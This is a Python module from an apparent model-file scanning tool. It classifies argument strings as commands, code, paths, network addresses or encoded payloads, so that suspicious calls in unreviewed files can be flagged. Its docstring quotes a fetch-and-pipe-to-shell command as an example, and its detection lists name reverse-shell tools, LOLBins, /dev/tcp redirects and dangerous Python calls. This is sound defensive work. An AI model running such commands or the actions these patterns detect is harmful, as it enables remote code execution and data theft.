"""What an argument looks like: a command, code, a path, an address, something encoded.

Used to judge calls of code that nobody has reviewed: the same unknown constructor is ordinary with ``(3, 'auto')`` and
alarming with ``('curl http://198.51.100.7/x | sh',)``. Each look is decided by structure (a shell's or Python's own
grammar, an address that really is one), because model files are full of words.
"""

from __future__ import annotations

import binascii
import enum
import re
from collections.abc import Iterable
from functools import lru_cache

from toadstone.core.regex import regex
from toadstone.core.value import Excerpt, Symbol, Value, leaves
from toadstone.forensics.syntax import tree_of

EXAMINED = 1 << 14
"""Characters of one string that are examined."""


class Look(enum.Enum):
    """A kind of appearance."""

    COMMAND = "a command"
    CODE = "code"
    PATH = "a path"
    ADDRESS = "an address"
    ENCODED = "encoded content"


_PROGRAMS = (
    "sh|bash|zsh|dash|ksh|csh|fish|busybox|cmd|cmd\\.exe|powershell|powershell\\.exe|pwsh|python[0-9.]*|perl|php|lua|curl|wget|ncat|netcat|nc|socat|ssh|scp|"
    "sftp|rsync|telnet|tftp|chmod|chown|rm|rmdir|mv|cp|mkdir|mkfifo|ln|dd|echo|printf|nohup|setsid|sudo|doas|crontab|openssl|base64|xxd|nslookup|dig|whoami|"
    "uname|hostname|ifconfig|ipconfig|netstat|iptables|systemctl|useradd|usermod|adduser|passwd|chpasswd|pkill|killall|shutdown|reboot|xargs|sed|awk|tar|unzip|"
    "gcc|cc|make|pip[0-9.]*|npm|npx|git|docker|kubectl|osascript|launchctl|reg|schtasks|msiexec|regsvr32|rundll32|certutil|bitsadmin|mshta|cscript|wscript|"
    "calc|calc\\.exe|notepad|notepad\\.exe|xcalc|gnome-calculator|ping|env|id|ls|ps|cat|touch|head|tail|find|grep|tee|kill|sleep|test|exec|eval|source|open|start|node|ruby"
)
_WORDS = frozenset(
    """
    cc make ping env id ls ps cat touch head tail find grep tee kill sleep test exec eval source open start node ruby reg
    git fish ln dd sed printf hostname calc base64 tar lua dig
    """.split(),
)
"""Programs whose names are also ordinary words: they need shell-like arguments to count."""

_COMMAND = regex(rf"\s*(?:/(?:usr/)?(?:local/)?s?bin/)?({_PROGRAMS})(?:\s+(\S.*))?\s*\Z", re.DOTALL)
_SHELL_PATH = regex(r"\s*(?:/(?:usr/)?(?:local/)?s?bin/\w+|[A-Za-z]:\\Windows\\\S+)")
_ARGUMENTS = regex(r"(?:^|\s)(?:--?\w|/\w|~/|\.{1,2}/|[<>|;&$`'\"*]|\w+\.(?:sh|py|exe|txt|ps1|bat)\b)")
_OPERATOR = regex(
    rf"(?:;|&&|\|\|?|\$\(|`)\s*(?:/(?:usr/)?s?bin/)?(?:{_PROGRAMS})\b(?:\s+[-/~.\w$'\"]|\s*$|\s*[;|&)`])|/dev/(?:tcp|udp)/|>\s*/dev/null|2>&1",
)
_SINGLE = frozenset(
    "whoami calc.exe notepad.exe powershell powershell.exe cmd.exe xcalc gnome-calculator /bin/sh /bin/bash".split()
)

_ALONE = _SINGLE | frozenset(
    """
    sh bash zsh dash ksh csh pwsh cmd python python2 python3 perl id ls ps env uname hostname ifconfig ipconfig netstat
    reboot shutdown poweroff halt calc notepad
    """.split(),
)
"""Programs that do something worth doing when they are given no argument."""

_FORMAT = regex(r"\{[^{}]*[.\[]_?_\w+")
"""A format string that walks attributes of its arguments by name."""
_CODE_HINT = regex(r"\(|\bimport\b|__\w+__")
_RISKY_CALLS = frozenset(
    """
    exec eval compile __import__ open getattr setattr delattr globals locals vars input breakpoint print system popen
    Popen run call check_output check_call getoutput spawn spawnl spawnv execl execv execve fork urlopen urlretrieve loads
    import_module b64decode unlink rmtree remove kill connect
    """.split(),
)
_RUNNERS = frozenset({"eval", "exec", "compile", "breakpoint", "__import__", "__builtins__", "__loader__", "__spec__"})
_RISKY_BASES = frozenset(
    """
    os sys subprocess socket shutil ctypes builtins urllib requests pathlib importlib pickle marshal pty platform signal
    threading multiprocessing
    """.split(),
)

_PATH = regex(
    r"\s*(?:file://\S+|~[\w.-]*/\S+|(?:\.\./)+\S*|/(?:[\w.@+-]+/)+[\w.@+ -]*|/(?:etc|tmp|proc|root|dev)\b\S*"
    r"|[A-Za-z]:[\\/]\S.*|\\\\[\w.-]+\\\S+)\s*\Z"
)
_URL = regex(r"\b(?:https?|ftps?|wss?|tcp|udp|ldaps?|smb|ssh|sftp|git|gopher|dns|rmi)://[^\s'\"<>]+", re.IGNORECASE)
_ENDINGS = frozenset("com net org info biz xyz top onion invalid example test exe".split())
_DOMAIN = regex(
    r"(?<![\w.@/-])(?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+(?:com|net|org|ru|cn|info|biz|xyz|top|onion|invalid|example|test|co\.[a-z]{2})(?::\d{1,5})?(?![\w.-])",
    re.IGNORECASE,
)
_IPV4 = regex(r"(?<![\w.])(?:\d{1,3}\.){3}\d{1,3}(?![\w.])")
_IPV6 = regex(r"(?<![\w:.])(?:[0-9a-f]{0,4}:){2,7}[0-9a-f]{0,4}(?![\w:])", re.IGNORECASE)
_BASE64 = regex(r"\s*[A-Za-z0-9+/_-]{40,}={0,2}\s*\Z")
_HEX = regex(r"\s*(?:[0-9a-fA-F]{2}){20,}\s*\Z")
_DIGEST_LENGTHS = frozenset({40, 56, 64, 96, 128})


def _is_command(text: str) -> bool:
    if text.strip() in _SINGLE or _SHELL_PATH.match(text) or _OPERATOR.search(text):
        return True
    found = _COMMAND.match(text)
    if not found or not found.group(2):
        return False
    return found.group(1) not in _WORDS or bool(_ARGUMENTS.search(found.group(2)))


def _is_code(text: str) -> bool:  # noqa: C901, PLR0911  (one kind of syntax after the other)
    if _FORMAT.search(text):
        return True
    if not _CODE_HINT.search(text) or _nesting(text) > 60:
        return False
    tree = tree_of(text)
    if tree is None:
        return False
    import ast  # noqa: PLC0415  (loaded by now)

    for node in ast.walk(tree):
        if isinstance(node, (ast.Import, ast.ImportFrom)):
            return True
        if isinstance(node, ast.Attribute) and node.attr.startswith("__") and node.attr.endswith("__"):
            return True
        if isinstance(node, ast.Name) and node.id in _RUNNERS:  # however it is called: [eval][0](...), (e := eval)(...)
            return True
        if isinstance(node, ast.Call):
            callee = node.func
            if isinstance(callee, ast.Name) and callee.id in _RISKY_CALLS:
                return True
            if isinstance(callee, ast.Attribute) and (callee.attr in _RISKY_CALLS or _base(callee) in _RISKY_BASES):
                return True
    return False


def _base(node: object) -> str:
    while (inner := getattr(node, "value", None)) is not None:
        node = inner
    return str(getattr(node, "id", ""))


def _nesting(text: str) -> int:
    """Deepest bracket nesting, counted roughly: the parser is only asked about text that cannot exhaust its stack."""
    depth = deepest = 0
    for character in text:
        if character in "([{":
            depth += 1
            deepest = max(deepest, depth)
        elif character in ")]}":
            depth -= 1
    return deepest


def runs_alone(word: str) -> bool:
    """Whether a single word is a command by itself."""
    return word in _ALONE


def addresses(text: str) -> list[tuple[str, str]]:
    """Find network addresses.

    Returns:
        Pairs of indicator type (``url``, ``ipv4``, ``ipv6``, ``domain``) and value, in order of appearance, without repeats.
    """
    found: dict[tuple[str, str], None] = {}
    for url in _URL.findall(text):
        found[("url", url.rstrip(".,;)]}"))] = None
    for kind, pattern in (("ipv4", _IPV4), ("ipv6", _IPV6)):
        for value in pattern.findall(text):
            if _is_ip(value):
                found[(kind, value)] = None
    for domain in _DOMAIN.findall(text):
        found[("domain", domain.lower())] = None
    return list(found)


def _is_ip(value: str) -> bool:
    import ipaddress  # noqa: PLC0415  (start-up time)

    try:
        address = ipaddress.ip_address(value)
    except ValueError:
        return False
    if address.version == 4:
        return not value.startswith("0.")  # four-part versions begin with 0 more often than hosts do
    return value.count(":") >= 3 or value == "::1"


def _is_encoded(text: str) -> bool:
    stripped = text.strip()
    if _HEX.match(stripped):
        return len(stripped) not in _DIGEST_LENGTHS
    if not _BASE64.match(stripped):
        return False
    body = stripped.rstrip("=").replace("-", "+").replace("_", "/")
    try:
        decoded = binascii.a2b_base64(body[: len(body) // 4 * 4])
    except binascii.Error:
        return False
    printable = sum(32 <= byte < 127 or byte in b"\t\r\n" for byte in decoded)
    return printable >= 0.95 * len(decoded) or decoded[:2] in (
        b"\x78\x9c",
        b"\x1f\x8b",
        b"\x80\x04",
        b"\x80\x05",
        b"\x80\x03",
        b"\x80\x02",
        b"BZ",
        b"\xe3\x00",
    )


_ENCODED_HEADS = frozenset(
    {b"\x80\x02", b"\x80\x03", b"\x80\x04", b"\x80\x05", b"\xe3\x00", b"\x1f\x8b", b"x\x9c", b"x\xda", b"PK", b"BZ"}
)
"""First bytes of pickles, code objects, compressed data and archives."""


_WORD = 40
"""Characters from which a word may be encoded content."""


def _is_name(text: str) -> bool:
    """Whether a text is a name, or a path of names that is no domain (``layer.0.weight``), and no program by itself."""
    if len(text) >= _WORD or "__" in text or not text.replace("_", "").replace(".", "").isalnum() or runs_alone(text):
        return False
    last = text.rpartition(".")[2]
    return "." not in text or (len(last) > 2 and last.isalpha() and last.lower() not in _ENDINGS)


@lru_cache(maxsize=4096)
def _looks(text: str) -> frozenset[Look]:
    looks: set[Look] = set()
    if _is_name(text):
        return frozenset()  # most strings of a model are one, and the questions below cost more
    if _is_command(text):
        looks.add(Look.COMMAND)
    if _is_code(text):
        looks.add(Look.CODE)
    if _PATH.match(text):
        looks.add(Look.PATH)
    if addresses(text):
        looks.add(Look.ADDRESS)
    if len(text) >= 40 and _is_encoded(text):
        looks.add(Look.ENCODED)
    return frozenset(looks)


def appearance(text: str | bytes) -> frozenset[Look]:
    """Say what a string looks like.

    Args:
        text: Up to `EXAMINED` characters of it are examined; bytes are read as Latin-1 when they are printable.
    """
    cut = text[:EXAMINED]
    if isinstance(cut, bytes):
        if len(cut) >= 16 and cut[:2] in _ENCODED_HEADS:
            return frozenset({Look.ENCODED})
        if not cut or any(byte < 9 or 13 < byte < 32 for byte in cut[:512]):
            return frozenset()
        cut = cut.decode("latin-1")
    return _looks(cut) if len(cut) >= 2 else frozenset()


def looks_of(values: Iterable[Value], *, made: bool = False) -> dict[Look, str]:
    """Say what the strings inside values look like: each look with the first string that has it.

    What other calls gave is not looked into: these calls are judged by themselves.
    """
    found: dict[Look, str] = {}
    for value in values:
        for leaf in leaves(value, made=made):
            text = leaf.head if isinstance(leaf, Excerpt) else leaf
            if isinstance(text, (str, bytes)):
                for look in appearance(text):
                    found.setdefault(look, text if isinstance(text, str) else text.decode("latin-1"))
    return found


def symbols_in(values: Iterable[Value]) -> list[Symbol]:
    """List the symbols inside values, without repeats, in order."""
    return list(dict.fromkeys(leaf for value in values for leaf in leaves(value) if isinstance(leaf, Symbol)))
